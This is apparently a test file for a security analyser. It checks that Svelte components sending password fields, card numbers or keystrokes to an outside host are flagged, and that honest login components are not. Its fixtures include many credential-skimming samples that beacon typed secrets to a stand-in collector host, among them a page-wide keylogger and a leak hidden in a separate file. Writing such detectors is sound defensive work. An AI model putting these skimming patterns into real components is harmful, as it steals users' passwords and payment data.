import assert from 'node:assert/strict';
import { analysePackage } from '../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../support/artifacts.js';

const SEND = (what: string): string => `navigator.sendBeacon('https://collect.invalid', ${what})`;
const FIELD = '<input type="password" bind:value={password}>';

function flowsOf(script: string, template: string, files: Readonly<Record<string, string>> = {}): readonly string[] {
  const component = `${script.startsWith('<') ? script : `<script>\n${script}\n</script>`}\n${template}`;
  const { flows } = analysePackage(packageOf({ 'Login.svelte': component, ...files }));
  return flows.map(({ source, sink, host }) => `${source}>${sink}@${host}`);
}

const TYPED = ['keystrokes>network@collect.invalid'];

/** What a template gives to a script, which sends it to a host of its own. */
const SENDING: readonly (readonly [what: string, script: string, template: string])[] = [
  ['a function', `export let password = ''; function submit() { ${SEND('password')}; }`, FIELD],
  [
    'a function with a variable of a caller',
    `let { user, password = $bindable('') } = $props(); const submit = () => ${SEND('password')};`,
    FIELD,
  ],
  ['a reactive statement', `let password = '';\n$: if (password.length > 6) ${SEND('btoa(password)')};`, FIELD],
  ['an effect', `let password = $state('');\n$effect(() => { ${SEND('password')}; });`, FIELD],
  [
    'a member',
    `const form = { user: '', secret: '' }; const submit = () => ${SEND('form.secret')};`,
    '<input type=password bind:value={form.secret}>',
  ],
  [
    'a whole object',
    `const form = { user: '', secret: '' }; const submit = () => ${SEND('JSON.stringify(form)')};`,
    '<input autocomplete="cc-number" bind:value="{form.secret}"/>',
  ],
  [
    'a store',
    `import { writable } from 'svelte/store'; const password = writable(''); $: ${SEND('$password')};`,
    '<input type="password" bind:value={$password} />',
  ],
  [
    'a variable of the name of what is bound',
    `let value = ''; $: ${SEND('value')};`,
    `<input type={isShown ? 'text' : 'password'} bind:value on:blur>`,
  ],
  [
    'an element',
    `let field; const submit = () => ${SEND('field.value')};`,
    '<input type="password" bind:this={field}>',
  ],
  ['a listener', `const heard = (e) => ${SEND('e.target.value')};`, '<input type="password" on:input|trusted={heard}>'],
  [
    'a listener of its own',
    '',
    `<input type="password" oninput={(e) => { const typed = e.target.value; ${SEND('typed')} }}>`,
  ],
  [
    'a listener of the form',
    `let password = ''; const sent = (e) => ${SEND('new FormData(e.target)')};`,
    `<form on:submit|preventDefault={sent}>${FIELD}</form>`,
  ],
  [
    'a listener of the page',
    `const keys = []; const heard = (e) => { keys.push(e.key); ${SEND('keys.join()')}; };`,
    '<svelte:window on:keydown={heard}/>',
  ],
  [
    'an action',
    `function watch(node) { node.addEventListener('input', (e) => ${SEND('e.target.value')}); }`,
    '<form use:watch><slot/></form>',
  ],
  [
    'what an action is given',
    `let password = ''; function watch(node, { it }) { ${SEND('it')}; }`,
    `<p use:watch={{ it: password }}/>${FIELD}`,
  ],
  [
    'what an action is given later',
    `let password = ''; const watch = () => ({ update(it) { ${SEND('it')}; } });`,
    `<p use:watch={password}>${FIELD}</p>`,
  ],
  ['a field of another component', `let it = ''; $: ${SEND('it')};`, '<TextField type="password" bind:value={it} />'],
  [
    'TypeScript',
    `<script lang="ts">\nlet form: { it?: string } = {};\n$: ${SEND('form.it!')};\n</script>`,
    '<input type="password" on:keyup={(e: Event) => 1} bind:value={form.it}>',
  ],
];

/** What honest components do with it. */
const HONEST: readonly (readonly [what: string, script: string, template: string])[] = [
  [
    'asks its own server',
    `let password = ''; const submit = () => fetch('/login', { method: 'POST', body: password });`,
    FIELD,
  ],
  [
    'asks whoever is told',
    `export let url; let password = ''; const submit = () => fetch(url, { method: 'POST', body: password });`,
    FIELD,
  ],
  [
    'tells who uses it',
    `import { createEventDispatcher } from 'svelte'; const dispatch = createEventDispatcher(); let password = ''; const submit = () => dispatch('login', { password });`,
    FIELD,
  ],
  [
    'calls back',
    `let { onlogin } = $props(); let password = $state(''); const submit = () => onlogin({ password });`,
    FIELD,
  ],
  ['tells that somebody has clicked', `let password = ''; const submit = () => { ${SEND(`'login'`)}; };`, FIELD],
  [
    'sends what is searched for',
    `let words = ''; const find = () => ${SEND('words')};`,
    '<input type="search" bind:value={words}>',
  ],
];

describe('the template of a Svelte component', () => {
  for (const [what, script, template] of SENDING)
    it(`gives what is typed to ${what}`, () => {
      assert.deepEqual(flowsOf(script === '' ? ';' : script, template), TYPED);
      // The script may come last.
      if (!script.startsWith('<'))
        assert.deepEqual(flowsOf(`${template}\n<script>${script || ';'}</script>`.replace(/^/, '<!-- -->'), ''), TYPED);
    });

  for (const [what, script, template] of HONEST)
    it(`means nothing in one that ${what}`, () => {
      assert.deepEqual(flowsOf(script, template), []);
    });

  it('gives what is typed to other files', () => {
    const script = `import { remember } from './vitals.js'; export let password = '';`;
    const vitals = `export function remember(node, all) { let last = all; document.addEventListener('visibilitychange', () => ${SEND('JSON.stringify(last)')}); return { update(v) { last = v; } }; }`;
    const template = `<form use:remember={{ a: 1, b: password }}>${FIELD}</form>`;
    assert.deepEqual(flowsOf(script, template, { 'vitals.js': vitals }), TYPED);
  });

  it('is told by the place of the field', () => {
    const script = `let password = '';\nfunction submit() {\n  ${SEND('password')};\n}`;
    const component = `<script>\n${script}\n</script>\n\n<p/>\n${FIELD}`;
    const [flow] = analysePackage(packageOf({ 'a.svelte': component })).flows;
    assert.deepEqual([flow?.from.line, flow?.from.snippet, flow?.to.line], [9, FIELD, 4]);
  });
});
